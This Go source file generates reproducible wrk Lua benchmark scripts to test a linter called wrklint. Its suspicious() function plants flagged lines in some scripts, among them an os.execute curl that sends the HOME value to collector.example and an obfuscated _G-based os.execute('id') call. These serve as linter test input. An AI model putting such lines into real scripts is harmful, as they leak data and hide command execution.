// Package luagen generates wrk-like Lua scripts for benchmarking wrklint
// against other linters. The scripts are varied (hooks, wrk.format,
// counters, math.random, thread tables, done() reports, file and
// environment use) and about 45 lines long on average, like the public
// scripts surveyed in NOTES.md; about one in ten also does something
// wrklint flags (os.execute, printing the body, a hard-coded token, a
// computed _G key). Output depends only on the seed.
package luagen

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
)

// Options says what to generate.
type Options struct {
	// N is the number of scripts.
	N int
	// Seed selects the corpus: the same seed gives the same files.
	Seed uint64
	// Clean leaves out what wrklint reports (environment reads, file
	// access, the suspicious one script in ten), to measure the analysis
	// without findings.
	Clean bool
}

// Generate writes o.N scripts into dir (created if needed) as
// dir/NNN/script_NNNNN.lua, 100 files per subdirectory.
func Generate(dir string, o Options) error {
	r := rand.New(rand.NewPCG(o.Seed, o.Seed^0x9e3779b97f4a7c15)) //nolint:gosec // a reproducible corpus needs a seeded generator, not crypto/rand
	for i := range o.N {
		sub := filepath.Join(dir, fmt.Sprintf("%03d", i/100))
		if i%100 == 0 {
			if err := os.MkdirAll(sub, 0o755); err != nil { //nolint:gosec // benchmark input, readable by other tools on purpose
				return fmt.Errorf("generating corpus: %w", err)
			}
		}
		name := filepath.Join(sub, fmt.Sprintf("script_%05d.lua", i))
		if err := os.WriteFile(name, Script(r, i, o.Clean), 0o644); err != nil { //nolint:gosec // generated benchmark input, world-readable on purpose
			return fmt.Errorf("generating corpus: %w", err)
		}
	}
	return nil
}

// Script returns the i-th script drawn from r; clean as in Options.
func Script(r *rand.Rand, i int, clean bool) []byte {
	g := &gen{r: r, clean: clean}
	purposes := []string{"random paths", "POST with JSON body", "auth header round trip", "per-thread counters", "latency report", "think time"}
	envNames := []string{"BENCH_TOKEN", "API_TOKEN", "AUTH", "TARGET_KEY"}
	g.line("-- generated benchmark script %d: %s", i, pick(r, purposes))
	g.line("-- usage: wrk -t%d -c%d -d%ds -s script_%05d.lua http://localhost:8080", 1+r.IntN(8), 10*(1+r.IntN(20)), 10+r.IntN(50), i)
	g.blank()

	// Top-level configuration.
	if g.chance(0.5) {
		g.line("math.randomseed(%d)", r.IntN(100000))
	}
	if g.risky(0.4) {
		g.line(`local token = os.getenv("%s") or ""`, pick(r, envNames))
	}
	nPaths := 2 + r.IntN(6)
	g.line("local paths = {")
	for range nPaths {
		g.line(`   "%s",`, path(r))
	}
	g.line("}")
	g.line("local counter = 0")
	if g.chance(0.5) {
		g.line("local statuses = {}")
	}
	if g.chance(0.3) {
		g.line("local threads = {}")
		g.blank()
		g.line("function setup(thread)")
		g.line(`   thread:set("id", counter)`)
		g.line("   table.insert(threads, thread)")
		g.line("   counter = counter + 1")
		g.line("end")
	}
	g.blank()

	// init(args)
	if g.chance(0.6) {
		g.line("function init(args)")
		g.line("   requests  = 0")
		g.line("   responses = 0")
		if g.risky(0.3) {
			g.line(`   for line in io.lines("%s") do`, pick(r, []string{"data/urls.txt", "paths.txt", "fixtures/ids.txt"}))
			g.line("      paths[#paths + 1] = line")
			g.line("   end")
		}
		if g.chance(0.4) {
			g.line("   if args[1] then")
			g.line("      counter = tonumber(args[1]) or 0")
			g.line("   end")
		}
		g.line("end")
		g.blank()
	}

	// request()
	method := pick(r, []string{"GET", "GET", "GET", "POST", "PUT"})
	g.line("function request()")
	g.line("   counter = counter + 1")
	if g.chance(0.3) {
		g.line("   requests = (requests or 0) + 1")
	}
	g.line("   local p = paths[math.random(#paths)]")
	if g.chance(0.5) {
		g.line(`   p = p .. "?id=" .. counter .. "&r=" .. math.random(1, %d)`, 100+r.IntN(100000))
	}
	g.line("   local headers = {}")
	g.line(`   headers["Content-Type"] = "%s"`, pick(r, []string{"application/json", "application/x-www-form-urlencoded", "text/plain"}))
	if g.chance(0.4) {
		g.line(`   headers["Authorization"] = "Bearer " .. (token or "")`)
	}
	if g.chance(0.3) {
		g.line(`   headers["X-Request-Id"] = string.format("%%08x-%%d", math.random(0, 0x7fffffff), counter)`)
	}
	if method == "GET" {
		g.line(`   return wrk.format("GET", p, headers)`)
	} else {
		g.line(`   local body = string.format('{"user":"user%%d","qty":%%d}', counter, math.random(1, 9))`)
		g.line(`   return wrk.format("%s", p, headers, body)`, method)
	}
	g.line("end")
	g.blank()

	// delay()
	if g.chance(0.3) {
		g.line("function delay()")
		g.line("   return math.random(%d, %d)", 1+r.IntN(10), 20+r.IntN(200))
		g.line("end")
		g.blank()
	}

	// response()
	if g.chance(0.7) {
		g.line("function response(status, headers, body)")
		g.line("   responses = (responses or 0) + 1")
		g.line("   if status ~= 200 then")
		g.line("      statuses = statuses or {}")
		g.line("      statuses[status] = (statuses[status] or 0) + 1")
		if g.chance(0.3) {
			g.line(`      print("unexpected status " .. status .. ", body length " .. #body)`)
		}
		g.line("   end")
		if g.chance(0.3) {
			g.line(`   local csrf = headers["X-CSRF-Token"]`)
			g.line("   if csrf then")
			g.line(`      wrk.headers["X-CSRF-Token"] = csrf`)
			g.line("   end")
		}
		g.line("end")
		g.blank()
	}

	g.suspicious()

	// done()
	g.line("function done(summary, latency, requests)")
	g.line(`   io.write("------------------------------\n")`)
	g.line("   for _, p in pairs({ 50, 90, 99, 99.9 }) do")
	g.line("      local n = latency:percentile(p)")
	g.line(`      io.write(string.format("%%g%%%%,%%d\n", p, n))`)
	g.line("   end")
	g.line(`   print(string.format("requests: %%d, errors: %%d", summary.requests, summary.errors.status))`)
	if g.chance(0.4) {
		g.line(`   print(string.format("mean %%.2fms stdev %%.2fms", latency.mean / 1000, latency.stdev / 1000))`)
	}
	if g.risky(0.15) {
		g.line(`   local f = io.open("%s", "w")`, pick(r, []string{"report.csv", "results/latency.csv", "out.json"}))
		g.line("   if f then")
		g.line(`      f:write(string.format("p99,%%d\n", latency:percentile(99)))`)
		g.line("      f:close()")
		g.line("   end")
	}
	g.line("end")
	return []byte(g.b.String())
}

// suspicious adds, to about one script in ten, something wrklint reports.
func (g *gen) suspicious() {
	if !g.risky(0.1) {
		return
	}
	switch g.r.IntN(5) {
	case 0:
		g.line(`os.execute("curl -s http://collector.example/" .. (os.getenv("HOME") or ""))`)
	case 1:
		g.line("local emit = print")
		g.line("local old = response")
		g.line("response = function(status, headers, body)")
		g.line("   emit(body)")
		g.line("   if old then old(status, headers, body) end")
		g.line("end")
	case 2:
		g.line(`wrk.headers["Authorization"] = "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlc2lnbmF0dXJl"`)
	case 3:
		g.line(`local lib = _G["o" .. "s"]`)
		g.line(`lib["exe" .. "cute"]("id")`)
	case 4:
		g.line(`local h = io.popen("hostname")`)
		g.line("local host = h:read(\"*l\")")
		g.line("h:close()")
	}
	g.blank()
}

type gen struct {
	r     *rand.Rand
	clean bool
	b     strings.Builder
}

func (g *gen) line(format string, args ...any) {
	fmt.Fprintf(&g.b, format, args...)
	g.b.WriteByte('\n')
}

func (g *gen) blank()                { g.b.WriteByte('\n') }
func (g *gen) chance(p float64) bool { return g.r.Float64() < p }

// risky is chance for what wrklint reports: never true in a clean corpus,
// and drawing the same numbers either way.
func (g *gen) risky(p float64) bool { return g.chance(p) && !g.clean }

func pick(r *rand.Rand, xs []string) string { return xs[r.IntN(len(xs))] }

func path(r *rand.Rand) string {
	return "/" + pick(r, []string{"api", "v1", "v2", "shop", "search"}) + "/" + pick(r, []string{"items", "users", "orders", "cart", "status", "products"})
}
